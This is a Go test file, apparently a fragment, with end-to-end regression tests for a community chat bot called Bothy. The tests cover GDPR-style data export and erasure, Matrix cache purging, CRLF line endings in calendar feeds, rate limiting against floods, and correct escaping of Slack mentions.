	defer cancel()
	if err := srv.WaitConnected(ctx, 1); err != nil {
		t.Fatalf("no Socket Mode connection: %v", err)
	}
	send := ack(t, ctx, srv)
	n := 0
	// say sends a direct message and waits for a new reply holding want.
	say := func(user, channel, text, want string) url.Values {
		t.Helper()
		n++
		stamp := fmt.Sprintf("1791000%03d.000100", n)
		before := len(srv.Calls(""))
		send(srv.SendEvent(fmt.Sprintf("EvErase%03d", n), slacktest.DirectMessage(user, channel, stamp, text)))
		var got url.Values
		err := srv.Wait(ctx, func(calls []slacktest.Call) bool {
			for _, c := range calls[min(before, len(calls)):] {
				p := c.Params
				if c.Method == "chat.postMessage" && c.Status == 200 && p.Get("channel") == channel && strings.Contains(p.Get("text")+p.Get("blocks"), want) {
					got = p
					return true
				}
			}
			return false
		})
		if err != nil {
			t.Fatalf("no reply with %q to %q: %v", want, text, err)
		}
		return got
	}
	scalar := func(q string, args ...any) int64 {
		var v int64
		queryDB(t, db, q, func(r *sql.Rows) error { return r.Scan(&v) }, args...)
		return v
	}

	// Their question becomes a gap, and an organiser answers it (FAQ).
	say(memberID, memberDM, question, "knowledge base")
	gap := scalar("SELECT id FROM kb_questions WHERE user_id = ? AND answered = 0", memberID)
	say(organiserID, orgDM, fmt.Sprintf("kb answer %d Park it in the depot yard on Mill Road, never on the street.", gap), "faq")
	// They ask something covered and mark the answer helpful.
	ans := say(memberID, memberDM, "do our videos need captions", "bothy_buttons")
	helpful := blockByID(parseBlocks(t, ans.Get("blocks")), "bothy_buttons").Elements[0]
	var answerTS string
	eventually(t, e2eWait, "the answer is recorded", func() bool {
		queryDB(t, db, "SELECT message_id FROM kb_questions WHERE user_id = ? AND answered = 1", func(r *sql.Rows) error { return r.Scan(&answerTS) }, memberID)
		return answerTS != ""
	})
	send(srv.SendInteractive(slacktest.BlockActions(memberID, memberDM, answerTS, "", "bothy_buttons", helpful.ActionID, helpful.Value, srv.ResponseURL("fbq"), "trig-fbq")))
	eventually(t, e2eWait, "the feedback is stored", func() bool {
		return scalar("SELECT count(*) FROM kb_feedback WHERE user_id = ?", memberID) == 1
	})
	// Shout-outs given and received (one naming them), one promoted to a
	// case study, one retracted with a reason naming them.
	say(memberID, memberDM, "shoutout <@"+carolID+"> for "+reason, "Carol")
	say(organiserID, orgDM, "shoutout <@"+memberID+"> for helping the gritting crews, thanks Quentin Quokkafield", "Quentin")
	given := scalar("SELECT id FROM shoutouts WHERE giver_id = ?", memberID)
	received := scalar("SELECT id FROM shoutouts WHERE recipient_id = ?", memberID)
	say(organiserID, orgDM, fmt.Sprintf("shoutout promote %d", received), "case")
	say(organiserID, orgDM, fmt.Sprintf("shoutout retract %d posted twice by Quentin Quokkafield", given), "etract")
	// A meetup RSVP and an awards nomination.
	say(organiserID, orgDM, "meetup add Winter gala on "+meetupDate()+" at The Lighthouse", "Added meetup")
	say(memberID, memberDM, "meetup rsvp 1 yes", "1")
	say(organiserID, orgDM, "awards open 2027 best-thread", "2027")
	say(memberID, memberDM, "nominate <@"+carolID+"> for best-thread because "+nomination, "omination")
	b.stop(t)

	needles := []string{memberID, "Quentin", "Quokkafield", "zanzibarquokka", "xylophonequokka", "vibraphonequokka"}
	if before := scanForTraces(t, db, []string{kb}, needles); len(before) < len(needles) {
		t.Fatalf("before erasure only %v were found; the scenario leaves too few traces to test", before)
	}
	cli := varList(map[string]string{"BOTHY_KNOWLEDGE_DIRS": kb})
	export, errOut, code := runBothy(t, dir, "", cli, "privacy", "export", "--db", db, "--user", memberID)
	if code != 0 {
		t.Fatalf("privacy export: exit %d: %s", code, errOut)
	}
	for _, want := range append(needles, fmt.Sprintf("faq-%d", gap), fmt.Sprintf("case-study-shoutout-%d", received),
		"posted twice by Quentin Quokkafield", `"audit_log"`) {
		if !strings.Contains(export, want) {
			t.Errorf("privacy export lacks %q, which erasure removes", want)
		}
	}
	out, errOut, code := runBothy(t, dir, "", cli, "privacy", "erase", "--db", db, "--user", memberID, "--actor", "dpo")
	if code != 0 {
		t.Fatalf("privacy erase: exit %d\n%s\n%s", code, out, errOut)
	}
	for _, f := range scanForTraces(t, db, []string{kb}, needles) {
		t.Errorf("after erasure: %s", f)
	}
	// What must stay: the counts, and the FAQ still answering.
	if got := scalar("SELECT count(*) FROM shoutouts"); got != 2 {
		t.Errorf("%d shout-outs after erasure, want both kept", got)
	}
	if got := scalar("SELECT count(*) FROM meetup_rsvps WHERE answer = 'yes'"); got != 1 {
		t.Errorf("%d yes RSVPs after erasure, want 1", got)
	}
	var pseudonyms []string
	queryDB(t, db, `SELECT giver_id FROM shoutouts WHERE giver_id LIKE 'erased-%' UNION SELECT recipient_id FROM shoutouts WHERE recipient_id LIKE 'erased-%'
		UNION SELECT user_id FROM meetup_rsvps UNION SELECT user_id FROM kb_questions UNION SELECT user_id FROM kb_feedback
		UNION SELECT nominator_id FROM award_nominations`, func(r *sql.Rows) error {
		var p string
		if err := r.Scan(&p); err != nil {
			return err
		}
		pseudonyms = append(pseudonyms, p)
		return nil
	})
	if len(pseudonyms) != 1 || !strings.HasPrefix(pseudonyms[0], "erased-") {
		t.Errorf("the erased member is %v across tables, want one pseudonym", pseudonyms)
	}
	ask, errOut, code := runBothy(t, dir, "", cli, "ask", "--db", db, "--json", "where do we park the lorry overnight, the depot yard?")
	if code != 0 || !strings.Contains(ask, fmt.Sprintf(`"faq-%d"`, gap)) {
		t.Errorf("the FAQ no longer answers after erasure (exit %d): %s %s", code, ask, errOut)
	}
}

// TestAttackErasureMatrixCaches (15.7): mautrix caches members in Bothy's
// database (mx_user_profile, crypto_tracked_user, devices, room state);
// erasure left them there. After `privacy erase` no byte of the member's
// Matrix ID or display name is left in the database file or its WAL.
func TestAttackErasureMatrixCaches(t *testing.T) {
	f := dendritetest.NewFixture(t, dendritetest.FixtureOptions{JoinBot: true})
	dir := t.TempDir()
	db := filepath.Join(dir, "bothy.db")
	vars := f.Env()
	vars["BOTHY_DB"] = db
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	const display = "Maud Quokkaberry"
	if err := f.Server.Client(t, f.Member).SetDisplayName(ctx, display); err != nil {
		t.Fatal(err)
	}
	member := f.Server.NewPerson(t, f.Member)
	member.Start()
	botID := f.Bot.ID
	b := startBothy(t, "bothy", dir, vars)
	b.waitLog(t, "connected to the homeserver", 1)
	// Plain and direct rooms, then the encrypted one, where the bot's
	// answer is encrypted (the member cannot read it here), so its crypto
	// store tracks the member's devices.
	for _, room := range []id.RoomID{f.Plain, f.Direct} {
		text := "!help"
		if room == f.Direct {
			text = "help"
		}
		q := member.Say(t, room, text)
		member.WaitFor(t, e2eWait, "a reply in "+string(room), answerTo(botID, q))
	}
	member.Say(t, f.Encrypted, "!help")
	var crypto int
	queryDB(t, db, "SELECT count(*) FROM sqlite_master WHERE name = 'crypto_tracked_user'", func(r *sql.Rows) error { return r.Scan(&crypto) })
	if crypto > 0 {
		eventually(t, e2eWait, "the bot tracks the member's devices", func() bool {
			var n int
			queryDB(t, db, "SELECT count(*) FROM crypto_tracked_user WHERE user_id = ?", func(r *sql.Rows) error { return r.Scan(&n) }, string(f.Member.ID))
			return n > 0
		})
	}
	b.stop(t)

	needles := []string{string(f.Member.ID), display, "Quokkaberry"}
	var cached []string
	queryDB(t, db, "SELECT name FROM sqlite_master WHERE type = 'table' AND name IN ('mx_user_profile', 'crypto_tracked_user')", func(r *sql.Rows) error {
		var n string
		if err := r.Scan(&n); err != nil {
			return err
		}
		var c int
		queryDB(t, db, "SELECT count(*) FROM "+n+" WHERE user_id = ?", func(r *sql.Rows) error { return r.Scan(&c) }, string(f.Member.ID))
		if c > 0 {
			cached = append(cached, n)
		}
		return nil
	})
	if len(cached) == 0 {
		t.Fatal("the bot cached nothing about the member; this test would show nothing")
	}
	t.Logf("cached before erasure in %v", cached)
	export, errOut, code := runBothy(t, dir, "", nil, "privacy", "export", "--db", db, "--user", string(f.Member.ID))
	if code != 0 || !strings.Contains(export, display) || !strings.Contains(export, `"room_profiles"`) {
		t.Errorf("privacy export (exit %d) lacks the Matrix caches: %s %s", code, export, errOut)
	}
	if out, errOut, code := runBothy(t, dir, "", nil, "privacy", "erase", "--db", db, "--user", string(f.Member.ID)); code != 0 {
		t.Fatalf("privacy erase: exit %d\n%s\n%s", code, out, errOut)
	}
	for _, found := range scanForTraces(t, db, nil, needles) {
		t.Errorf("after erasure: %s", found)
	}
}

// TestAttackICSLineEndings (15.11): the calendar feed and a meetup's
// .ics file ended lines in LF alone; RFC 5545 requires CRLF, and strict
// calendar clients refuse or misread the file.
func TestAttackICSLineEndings(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "bothy.db")
	when := time.Now().AddDate(1, 0, 0).Format("2 January 2006") + " 18:00"
	add := "meetup add Winter social on " + when + " at The Lighthouse, Glasgow #tartantm\n"
	if out, errOut, code := runBothy(t, dir, add, nil, "--db", db, "--organiser"); code != 0 || !strings.Contains(out, "Added meetup 1") {
		t.Fatalf("adding a meetup: %d %s %s", code, out, errOut)
	}
	addr := freeAddr(t)
	startConsoleBot(t, dir, addr, map[string]string{"BOTHY_DB": db, "BOTHY_HTTP_LISTEN": addr})
	for _, path := range []string{"/meetups.ics", "/meetups/1.ics"} {
		resp, err := http.Get("http://" + addr + path)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK || !bytes.Contains(body, []byte("BEGIN:VEVENT")) {
			t.Fatalf("%s: %d %q", path, resp.StatusCode, body)
		}
		for i, line := range bytes.SplitAfter(body, []byte("\n")) {
			if len(line) > 0 && !bytes.HasSuffix(line, []byte("\r\n")) {
				t.Errorf("%s line %d does not end in CRLF: %q", path, i+1, line)
				break
			}
		}
	}
	out, errOut, code := runBothy(t, dir, "", nil, "meetup", "export", "--ics", "--db", db)
	if code != 0 || strings.Count(out, "\r\n") != strings.Count(out, "\n") {
		t.Errorf("bothy meetup export --ics: exit %d, %d CRLF in %d lines %s", code, strings.Count(out, "\r\n"), strings.Count(out, "\n"), errOut)
	}
}

// TestAttackFloods (15.10): one member logged 2,615 questions in a flood,
// 666 of them into `kb gaps`; with a language model configured, 50
// anonymous /search calls made 50 model calls. A member gets 20 questions
// a minute and is told when to try again; the page allows each address
// its searches and calls no model unless llm.web says so.
func TestAttackFloods(t *testing.T) {
	t.Run("one member's questions", func(t *testing.T) {
		dir := t.TempDir()
		var script strings.Builder
		for i := 0; i < 30; i++ {
			fmt.Fprintf(&script, "ask what colour is the quixotic zorblax wibble number %d\n", i)
		}
		out, errOut, code := runBothy(t, dir, script.String(), nil, "--db", filepath.Join(dir, "bothy.db"), "--as", "flooder")
		if code != 0 {
			t.Fatalf("exit %d: %s", code, errOut)
		}
		if n := strings.Count(out, "Please try again in"); n != 10 {
			t.Errorf("%d of 30 questions were held back, want 10 (20 a minute):\n%s", n, lastLines(out, 12))
		}
		var gaps int
		queryDB(t, filepath.Join(dir, "bothy.db"), "SELECT count(*) FROM kb_questions", func(r *sql.Rows) error { return r.Scan(&gaps) })
		if gaps != 20 {
			t.Errorf("%d questions recorded, want 20", gaps)
		}
	})

	t.Run("anonymous searches and the model", func(t *testing.T) {
		llm := llmtest.New(t)
		llm.SetReply(func(llmtest.ChatRequest) (string, error) { return "Ask ICT for an exception [1].", nil })
		dir := t.TempDir()
		addr := freeAddr(t)
		startConsoleBot(t, dir, addr, map[string]string{
			"BOTHY_DB":           filepath.Join(dir, "bothy.db"),
			"BOTHY_HTTP_LISTEN":  addr,
			"BOTHY_LLM_BASE_URL": llm.URL,
			"BOTHY_LLM_MODEL":    "local-model",
		})
		codes := map[int]int{}
		for i := 0; i < 50; i++ {
			resp, err := http.Get("http://" + addr + "/search?q=" + url.QueryEscape("IT have blocked Twitter, what do I do?"))
			if err != nil {
				t.Fatal(err)
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			codes[resp.StatusCode]++
		}
		if codes[200] != 30 || codes[http.StatusTooManyRequests] != 20 {
			t.Errorf("responses %v, want 30 answered and 20 told to wait (30 a minute per address)", codes)
		}
		if n := len(llm.Requests()); n != 0 {
			t.Errorf("anonymous searches made %d model calls, want none (llm.web is off)", n)
		}
		// With llm.web the same search does reach the model, so the
		// check above is not vacuous.
		dir2, addr2 := t.TempDir(), freeAddr(t)
		startConsoleBot(t, dir2, addr2, map[string]string{
			"BOTHY_DB": filepath.Join(dir2, "bothy.db"), "BOTHY_HTTP_LISTEN": addr2,
			"BOTHY_LLM_BASE_URL": llm.URL, "BOTHY_LLM_MODEL": "local-model", "BOTHY_LLM_WEB": "true",
		})
		resp, err := http.Get("http://" + addr2 + "/search?q=" + url.QueryEscape("IT have blocked Twitter, what do I do?"))
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if n := len(llm.Requests()); n == 0 || !strings.Contains(string(body), "Ask ICT for an exception") {
			t.Errorf("with llm.web on, the search made %d model calls", n)
		}
	})
}

// TestAttackSlackFallbackMention (15.5): when the recipient of a shout-out
// cannot get a direct message, the notice falls back to a mention in the
// channel where it was given. The text was escaped whole, so the channel
// saw "&lt;@U0…&gt;, you received…" and nobody was pinged. The mention is
// the adapter's to render; the rest of the text, the member's reason with
// its own <@…> and <!channel>, stays escaped.
func TestAttackSlackFallbackMention(t *testing.T) {
	const (
		memberID = "U0MEMBER01"
		carolID  = "U0CAROL001"
		general  = "C0GENERAL1"
	)
	srv := slacktest.New(slacktest.Options{PingInterval: 500 * time.Millisecond})
	t.Cleanup(srv.Close)
	srv.AddUser(slacktest.User{ID: memberID, Name: "mo", RealName: "Mo Member", DisplayName: "Mo"})
	srv.AddUser(slacktest.User{ID: carolID, Name: "carol", RealName: "Carol Comms", DisplayName: "Carol"})
	srv.AddChannel(general, "general")
	srv.RefuseDirect(carolID, "user_disabled")

	dir := t.TempDir()
	startBothy(t, "bothy", dir, map[string]string{
		"SLACK_APP_TOKEN":     slacktest.AppToken,
		"SLACK_BOT_TOKEN":     slacktest.BotToken,
		"BOTHY_SLACK_API_URL": srv.APIURL,
		"BOTHY_DB":            filepath.Join(dir, "bothy.db"),
	})
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if err := srv.WaitConnected(ctx, 1); err != nil {
		t.Fatalf("no Socket Mode connection: %v", err)
	}
	send := ack(t, ctx, srv)
	text := "<@" + slacktest.BotUserID + "> shoutout <@" + carolID + "> for the gritting map " + slackHostile
	send(srv.SendEvent("EvFallback1", slacktest.AppMention(memberID, general, "1790001001.000100", "", text)))

	notice := waitPost(t, ctx, srv, "the fallback notice in the channel", func(p url.Values) bool {
		return p.Get("channel") == general && strings.Contains(p.Get("text"), "you received a shout-out")
	})
	got := notice.Get("text")
	if !strings.HasPrefix(got, "<@"+carolID+">") {
		t.Errorf("the fallback notice does not mention Carol (Slack shows no ping): %q", got)
	}
	if strings.Contains(got, "&lt;@"+carolID+"&gt;") {
		t.Errorf("Carol's mention went out escaped, as text: %q", got)
	}
	checkSlackPayloads(t, srv)
}
